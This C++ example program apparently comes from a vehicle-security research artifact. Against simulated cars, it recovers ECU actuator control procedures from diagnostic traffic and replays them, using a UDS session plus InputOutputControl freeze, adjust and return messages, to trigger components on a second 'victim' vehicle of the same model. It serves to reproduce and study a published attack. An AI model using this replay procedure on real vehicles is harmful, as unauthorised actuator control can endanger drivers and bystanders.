// Actuator reverse engineering and replay (§4.5 / §9.3 / Table 13).
//
// Runs the CPS rig over a vehicle's active tests, extracts the ECU
// control records and their 3-message procedure from the sniffed
// traffic, then replays the recovered messages against a *different*
// instance of the same model — the paper's attack scenario.

#include <cstdio>
#include <map>
#include <memory>

#include "core/campaign.hpp"
#include "isotp/endpoint.hpp"
#include "uds/client.hpp"

int main() {
  using namespace dpr;

  // Phase 1: reverse engineer the rented car.
  core::CampaignOptions options;
  options.live_window = 8 * util::kSecond;
  options.run_inference = false;  // this example is about ECRs only
  core::Campaign campaign(vehicle::CarId::kN, options);  // Kia k2
  std::printf("Reverse engineering %s (%s)...\n",
              campaign.report().car_label.c_str(),
              campaign.vehicle().spec().model.c_str());
  campaign.collect();
  campaign.analyze();

  std::printf("\nRecovered control procedures:\n");
  for (const auto& ecr : campaign.report().ecrs) {
    std::printf("  %s DID 0x%04X %-26s params:", ecr.is_uds ? "2F" : "30",
                ecr.id, ecr.semantic_name.c_str());
    for (const auto p : ecr.param_sequence) std::printf(" %02X", p);
    std::printf("  state: %s\n",
                util::to_hex(ecr.adjustment_state).c_str());
  }

  // Phase 2: replay against another vehicle of the same model.
  std::printf("\nReplaying against a second %s...\n",
              campaign.vehicle().spec().model.c_str());
  util::SimClock clock;
  can::CanBus bus(clock);
  vehicle::Vehicle victim(vehicle::CarId::kN, bus, clock, /*seed=*/999);
  // One link and client per ECU, kept for the bus's whole life: the bus
  // has no detach, so its listeners hold the link and the client.
  struct Dongle {
    std::unique_ptr<isotp::Endpoint> link;
    std::unique_ptr<uds::Client> client;
  };
  std::map<const vehicle::EcuSim*, Dongle> dongles;

  std::size_t triggered = 0;
  for (const auto& ecr : campaign.report().ecrs) {
    auto* ecu = victim.find_ecu_with_actuator(ecr.id);
    if (ecu == nullptr || !ecr.is_uds) continue;
    Dongle& dongle = dongles[ecu];
    if (!dongle.link) {
      dongle.link = std::make_unique<isotp::Endpoint>(
          bus, isotp::EndpointConfig{can::CanId{ecu->request_id(), false},
                                     can::CanId{ecu->response_id(), false}});
      dongle.client = std::make_unique<uds::Client>(
          *dongle.link, [&bus] { bus.deliver_pending(); });
    }
    uds::Client& client = *dongle.client;
    client.start_session(0x03);
    client.io_control(ecr.id, uds::IoControlParameter::kFreezeCurrentState);
    client.io_control(ecr.id, uds::IoControlParameter::kShortTermAdjustment,
                      ecr.adjustment_state);
    client.io_control(ecr.id, uds::IoControlParameter::kReturnControlToEcu);
    if (ecu->actuator(ecr.id)->activations() > 0) {
      ++triggered;
      std::printf("  0x%04X %-26s -> TRIGGERED\n", ecr.id,
                  ecr.semantic_name.c_str());
    }
  }
  std::printf("\n%zu components triggered on the victim vehicle.\n",
              triggered);
  return 0;
}
